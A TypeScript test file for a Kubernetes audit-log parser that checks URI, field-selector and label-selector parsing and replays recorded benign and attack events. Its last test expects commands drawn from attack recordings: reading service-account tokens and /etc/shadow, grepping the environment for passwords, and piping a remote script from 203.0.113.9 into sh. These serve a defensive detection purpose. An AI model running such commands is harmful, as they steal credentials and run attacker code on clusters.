import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { fieldSelectorOf, labelSelectorOf } from '../../../src/audit/derived/selectors.ts'
import { pathOf, queryOf } from '../../../src/audit/request-uri.ts'
import { readEvents } from '../../support/recordings.ts'
import { readField } from './support.ts'

describe('a request URI', () => {
  it('means what was encoded into it', () => {
    const text = fc.string({ unit: 'grapheme' })
    fc.assert(
      fc.property(text, fc.array(fc.tuple(text, text)), (path, pairs) => {
        const query = pairs.map(([key, value]) => `${escaped(key)}=${escaped(value)}`).join('&')
        const uri = `/${escaped(path)}?${query}`
        expect(pathOf(uri)).toBe(`/${path}`)
        expect(
          [...queryOf(uri)].flatMap(([key, values]) => values.map((v) => [key, v])).sort(),
        ).toEqual((pairs.length === 0 ? [['', '']] : pairs).toSorted())
      }),
    )
  })

  it('of 200 KB is read like others', () => {
    const words = Array.from({ length: 20_000 }, (_, i) => `w${i % 7}`)
    const raw = {
      objectRef: { resource: 'pods', subresource: 'exec' },
      requestURI: `/api/v1/namespaces/a/pods/b/exec?command=${words.join('&command=')}&x=${'%41'.repeat(20_000)}`,
    }
    expect(readField(raw, 'execCommand')).toEqual([words.join(' ')])
    expect(readField(raw, 'requestQuery.x')).toEqual(['A'.repeat(20_000)])
    const slashes = {
      objectRef: { resource: 'nodes', subresource: 'proxy' },
      requestURI: `/api/v1/nodes/a/proxy${'/'.repeat(200_000)}`,
    }
    expect(readField(slashes, 'proxiedPath')).toEqual(['/'])
    const noProxy = {
      objectRef: slashes.objectRef,
      requestURI: `/api/v1/nodes${'/'.repeat(200_000)}`,
    }
    expect(readField(noProxy, 'proxiedPath')).toBe(undefined)
  })
})

/** Never throws for a lone surrogate, unlike encodeURIComponent. */
function escaped(text: string): string {
  return encodeURIComponent(text.toWellFormed())
}

describe('a field selector', () => {
  it.each([
    ['', {}],
    ['metadata.name=web', { 'metadata.name': ['web'] }],
    ['metadata.name==web,spec.nodeName!=a', { 'metadata.name': ['web'] }],
    [String.raw`a=x\,y\=z\\,b=`, { a: ['x,y=z\\'], b: [''] }],
    ['a=1,a=2', { a: ['1', '2'] }],
    ['=x,,a', {}],
    ['type=helm.sh/release.v1', { type: ['helm.sh/release.v1'] }],
  ])('%j asks for %j', (text, expected) => {
    expect(Object.fromEntries(fieldSelectorOf(text))).toEqual(expected)
  })
})

describe('a label selector', () => {
  it.each([
    ['', {}],
    ['app=web', { app: ['web'] }],
    [
      'app==web, tier in (front, back),!old,env notin (a),x',
      { app: ['web'], tier: ['front', 'back'] },
    ],
    ['app=', { app: [''] }],
    ['app!=web', {}],
    ['app in (', {}],
    ['example.com/a=b,example.com/a=c', { 'example.com/a': ['b', 'c'] }],
  ])('%j asks for %j', (text, expected) => {
    expect(Object.fromEntries(labelSelectorOf(text))).toEqual(expected)
  })

  it('takes time in proportion to its length', () => {
    for (const text of ['(', ' ', 'a in (', 'a=b,', '\\', ',']) {
      labelSelectorOf(text.repeat(50_000))
      fieldSelectorOf(text.repeat(50_000))
    }
    expect(labelSelectorOf('a=b,'.repeat(50_000)).get('a')).toHaveLength(50_000)
  })
})

describe('recorded requests', () => {
  it('of kubelets watch one Secret each by its name', () => {
    const names = readEvents('benign/evening.jsonl')
      .filter((raw) => readField(raw, 'userClass')?.[0] === 'node')
      .filter((raw) => readField(raw, 'objectRef.resource')?.[0] === 'secrets')
      .map((raw) => [
        readField(raw, 'fieldSelector.metadata.name'),
        readField(raw, 'objectRef.name'),
      ])
    expect(names.length).toBeGreaterThan(5)
    expect(names.filter(([selected, named]) => selected?.[0] !== named?.[0])).toEqual([])
  })

  it.each([
    ['exec-websocket', 'exec', 2, 2],
    ['exec-spdy', 'exec', 5, 5],
    ['port-forward-tunnel', 'portForward', 2, 2],
    // One of the two was refused.
    ['nodes-proxy', 'run', 2, 1],
  ])('of %s ask for sessions: %s, %d times, and %d begin', (name, kind, asked, starts) => {
    const sessions = readEvents(`attacks/${name}.jsonl`).filter(
      (raw) => readField(raw, 'sessionKind')?.[0] === kind,
    )
    const begun = sessions.filter((raw) => readField(raw, 'isSessionStart')?.[0] === true)
    expect(begun).toHaveLength(starts)
    expect(new Set(sessions.map((raw) => readField(raw, 'requestId')?.[0])).size).toBe(asked)
  })

  it('of commands are read from their URIs', () => {
    const commands = ['exec-websocket', 'nodes-proxy'].flatMap((name) =>
      readEvents(`attacks/${name}.jsonl`).flatMap((raw) => readField(raw, 'execCommand') ?? []),
    )
    expect([...new Set(commands)]).toEqual([
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      'sh -c env | grep -i PASSWORD; curl -s http://203.0.113.9/x.sh | sh',
      'cat /etc/shadow',
      'id',
      'cat /run/secrets/kubernetes.io/serviceaccount/token',
    ])
  })
})
